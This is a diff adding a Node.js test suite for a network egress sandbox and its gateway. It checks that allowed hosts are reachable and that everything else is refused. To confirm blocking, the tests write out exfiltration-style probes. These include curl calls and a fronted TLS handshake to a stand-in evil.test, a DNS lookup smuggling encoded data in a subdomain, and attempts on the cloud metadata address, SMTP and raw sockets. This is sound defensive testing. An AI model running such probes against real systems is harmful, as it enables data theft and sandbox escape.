@@ -1,0 +1,205 @@
+// Programs in a jail and the one gate out: they work without settings, and nothing else leaves.
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
+import http from 'node:http';
+import { join } from 'node:path';
+import test from 'node:test';
+import { run } from './lib.mjs';
+import { world } from './egress_lib.mjs';
+
+const timeout = 120_000;
+// Without the variables that lead programs to the proxy: they must be captured.
+const bare = ['env', '-i', 'PATH=/usr/bin:/bin', 'HOME=/tmp'];
+const found = (program) => existsSync(`/usr/bin/${program}`);
+
+test('programs reach an allowed host with and without a proxy', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const url = `http://ok.test:${stage.port}/x`;
+  const python = `import urllib.request; print(urllib.request.urlopen("${url}").read().decode())`;
+  const nodeScript = `fetch("${url}").then(async (r) => console.log(await r.text()))`;
+  const programs = {
+    curl: ['curl', '-sS', url], python3: ['/usr/bin/python3', '-c', python], node: ['/usr/bin/node', '-e', nodeScript],
+  };
+  for (const [name, command] of Object.entries(programs))
+    for (const prefix of [[], bare])
+      await t.test(`${name}${prefix.length ? ', captured' : ''}`, async (t2) => {
+        if (!found(name)) return t2.skip(`no ${name} on this machine`);
+        const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...prefix, ...command]);
+        assert.match(ran.stdout, new RegExp(`^ok GET /x host=ok\\.test:${stage.port}`), ran.stdout + ran.stderr);
+      });
+  await t.test('a static program, captured', async (t2) => {
+    const program = process.env.SG_STATIC_GET;
+    if (!program || !existsSync(program)) return t2.skip('no static program was built');
+    const ran = await stage.exec(['--ro', `${program}:/tmp/get`, '--allow-host', `ok.test:${stage.port}`, '--', ...bare,
+      '/tmp/get', 'ok.test', `${stage.port}`]);
+    assert.match(ran.stdout, /ok GET \/ /, ran.stdout + ran.stderr);
+  });
+  await t.test('curl over SOCKS, names resolved outside', async (t2) => {
+    if (!found('curl')) return t2.skip('no curl on this machine');
+    const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...bare, 'curl', '-sS',
+      '--proxy', 'socks5h://127.0.0.1:3128', url]);
+    assert.match(ran.stdout, /^ok GET/, ran.stdout + ran.stderr);
+  });
+});
+
+test('git clones over http', { timeout }, async (t) => {
+  if (!found('git')) return t.skip('no git on this machine');
+  let root;
+  const stage = await world(t, { handler: (request, response) => {
+    try {
+      response.end(readFileSync(join(root, new URL(request.url, 'http://x').pathname)));
+    } catch {
+      response.writeHead(404).end();
+    }
+  } });
+  if (stage.skip) return t.skip(stage.skip);
+  root = join(stage.dir, 'www');
+  mkdirSync(root);
+  const git = (...args) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args],
+    { cwd: stage.dir, stdio: 'pipe' });
+  git('init', '-q', 'src');
+  git('-C', 'src', 'commit', '-q', '--allow-empty', '-m', 'the first');
+  git('clone', '-q', '--bare', 'src', join(root, 'repo.git'));
+  git('-C', join(root, 'repo.git'), 'update-server-info');
+  const clone = `cd /tmp && git clone -q http://ok.test:${stage.port}/repo.git && git -C repo log --format=%s`;
+  for (const prefix of [[], bare]) {
+    const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...prefix, 'sh', '-c', clone]);
+    assert.equal(ran.stdout, 'the first\n', ran.stderr);
+  }
+});
+
+test('TLS goes through untouched, and only to the host it names', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const tls = await stage.startTls('ok.test');
+  if (tls === null) return t.skip('no openssl to make a certificate with');
+  const allow = ['--ro', `${tls.caFile}:/tmp/ca.pem`, '--allow-host', `ok.test:${tls.port}`, '--'];
+  for (const prefix of [[], bare]) {
+    const ran = await stage.exec([...allow, ...prefix, 'curl', '-sS', '--cacert', '/tmp/ca.pem', `https://ok.test:${tls.port}/`]);
+    assert.match(ran.stdout, /^ok\.test GET \//, ran.stdout + ran.stderr);
+  }
+  const hits = tls.server.hits;
+  // To ok.test's address, but with another name in the handshake.
+  const fronted = await stage.exec(['--json', ...allow, ...bare, 'sh', '-c',
+    `a=$(getent hosts ok.test | cut -d' ' -f1); curl -sSk --resolve evil.test:${tls.port}:$a https://evil.test:${tls.port}/`]);
+  const report = JSON.parse(fronted.stdout);
+  assert.notEqual(report.exitCode, 0);
+  assert.equal(report.stdout, '');
+  assert.deepEqual(report.blocked.map((each) => [each.host, each.reason]), [['ok.test', 'server_name_mismatch']]);
+  assert.ok(tls.server.hits <= hits + 1); // connected, perhaps; no byte was sent
+});
+
+test('a refusal is told, once', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const url = `http://evil.test:${stage.port}/`;
+  const ran = await stage.exec(['--json', '--allow-host', `ok.test:${stage.port}`, '--', 'sh', '-c',
+    `curl -sS ${url}; curl -sS ${url}; curl -sS https://evil.test/; env -i curl -sS ${url}`]);
+  const report = JSON.parse(ran.stdout);
+  assert.match(report.stdout, /"code":"host_not_allowed","message":"blocked evil\.test:\d+: the policy does not name this host"/);
+  assert.match(report.stderr, /CONNECT tunnel failed, response 403/);
+  assert.match(report.stderr, /Could not resolve host/);
+  assert.deepEqual(report.blocked.map((each) => `${each.host}:${each.port} ${each.reason}`), [
+    `evil.test:${stage.port} host_not_allowed`, 'evil.test:443 host_not_allowed', 'evil.test:null host_not_allowed']);
+  assert.equal(stage.evil.hits, 0);
+  assert.deepEqual(stage.dns.queries, []);
+});
+
+test('nothing else leaves: NET-01', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const script = `
+import socket, json
+out = {}
+def attempt(name, call):
+    try: out[name] = repr(call())
+    except Exception as e: out[name] = type(e).__name__ + " " + str(getattr(e, "errno", ""))
+def tcp(host, port):
+    s = socket.create_connection((host, port), 5); s.sendall(b"x" * 10); s.settimeout(5); got = s.recv(10); return got
+def udp(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.connect((host, port)); s.send(b"x"); return s.recv(10)
+attempt("smtp", lambda: tcp("93.184.216.34", 25))
+attempt("dot", lambda: tcp("8.8.8.8", 853))
+attempt("https by address", lambda: tcp("93.184.216.34", 443))
+attempt("host loopback", lambda: tcp("127.0.0.1", ${stage.port}))
+attempt("host loopback server", lambda: tcp("127.0.0.3", ${stage.port}))
+attempt("metadata", lambda: tcp("169.254.169.254", 80))
+attempt("v6", lambda: tcp("2606:2800:220:1::1", 22))
+attempt("ntp", lambda: udp("93.184.216.34", 123))
+attempt("quic", lambda: udp("93.184.216.34", 443))
+attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
+attempt("data in a name", lambda: socket.getaddrinfo("c2VjcmV0.evil.test", 80))
+attempt("allowed", lambda: len(socket.getaddrinfo("ok.test", 80)) > 0)
+print(json.dumps(out))
+`;
+  const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', ...bare, '/usr/bin/python3', '-c', script]);
+  const out = JSON.parse(ran.stdout);
+  assert.equal(out.allowed, 'True', ran.stdout + ran.stderr);
+  for (const [name, result] of Object.entries(out))
+    if (name !== 'allowed')
+      assert.match(result, /^(ConnectionRefusedError|ConnectionResetError|PermissionError|gaierror|OSError|b'')/, `${name}: ${result}`);
+  assert.equal(stage.evil.hits + stage.inner.hits + stage.ok.hits, 0);
+  assert.ok(stage.dns.queries.every((name) => name === 'ok.test'), `${stage.dns.queries}`);
+});
+
+test('any name server that is asked is the gateway', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const script = `
+import socket, struct
+def ask(server, name, tcp):
+    q = b"\\x07\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(p)]) + p for p in name.encode().split(b".")) + b"\\x00\\x00\\x01\\x00\\x01"
+    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53))
+    s.send((struct.pack("!H", len(q)) if tcp else b"") + q)
+    a = s.recv(600)
+    while tcp and len(a) < 2 + struct.unpack("!H", a[:2])[0]: a += s.recv(600)
+    a = a[2:] if tcp else a
+    return (a[3] & 15, ".".join(map(str, a[-4:])) if a[7] else None)
+for tcp in (0, 1):
+    for server in ("127.0.0.1", "8.8.8.8", "2001:4860:4860::8888"):
+        print(ask(server, "ok.test", tcp), ask(server, "evil.test", tcp))
+`;
+  const ran = await stage.exec(['--allow-host', `ok.test:${stage.port}`, '--', '/usr/bin/python3', '-c', script]);
+  assert.equal(ran.stdout, "(0, '198.18.0.1') (3, None)\n".repeat(6), ran.stderr);
+});
+
+test('the worker is locked and alone', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  const server = http.createServer((request, response) => {
+    // Called by the jail: the worker lives now. Whose socket this is can be seen in /proc.
+    const text = execFileSync('sh', ['-c', `for p in /proc/[0-9]*; do (tr '\\0' ' ' < $p/cmdline) 2>/dev/null | grep -q '^sandglass-gateway' &&
+      grep -E '^(Name|Uid|Seccomp|NoNewPrivs|CapEff|PPid):' $p/status | tr '\\n' ' ' && echo; done; true`], { encoding: 'utf8' });
+    response.end(text);
+  });
+  server.listen(0, '127.0.0.2');
+  await new Promise((done) => server.once('listening', done));
+  t.after(() => server.close());
+  const { port } = server.address();
+  const ran = await stage.exec(['--allow-host', `ok.test:${port}`, '--', 'curl', '-sS', `http://ok.test:${port}/`]);
+  const workers = ran.stdout.split('\n').filter((line) => /Seccomp:\t2/.test(line));
+  assert.ok(workers.length >= 1, ran.stdout + ran.stderr);
+  for (const worker of workers) {
+    assert.match(worker, /NoNewPrivs:\t1/);
+    assert.match(worker, /CapEff:\t0000000000000000/);
+    assert.doesNotMatch(worker, /Uid:\t0/);
+  }
+});
+
+test('npm install works with the group npm alone, and says why it does not without', { timeout }, async (t) => {
+  const stage = await world(t);
+  if (stage.skip) return t.skip(stage.skip);
+  if (!found('npm')) return t.skip('no npm on this machine');
+  const install = ['sh', '-c', 'mkdir /tmp/p && cd /tmp/p && npm init -y >/dev/null && npm install --no-audit --no-fund is-odd && ls node_modules'];
+  const own = (args) => run(['exec', ...args]);
+  const direct = await own(['--allow-host', 'npm', '--', 'sh', '-c', 'curl -sS -o /dev/null -m 20 "$npm_config_registry"']);
+  if (direct.code !== 0) return t.skip(`the configured registry does not answer: ${direct.stderr.trim()}`);
+  const good = await own(['--allow-host', 'npm', '--', ...install]);
+  assert.match(good.stdout, /is-odd/, good.stdout + good.stderr);
+  const bad = await own(['--allow-host', 'example.invalid', '--', ...install]);
+  assert.notEqual(bad.code, 0);
+  assert.match(bad.stderr, /403/);
+  assert.match(bad.stderr, /sandglass: blocked \S+:443: the policy does not name this host/);
+});
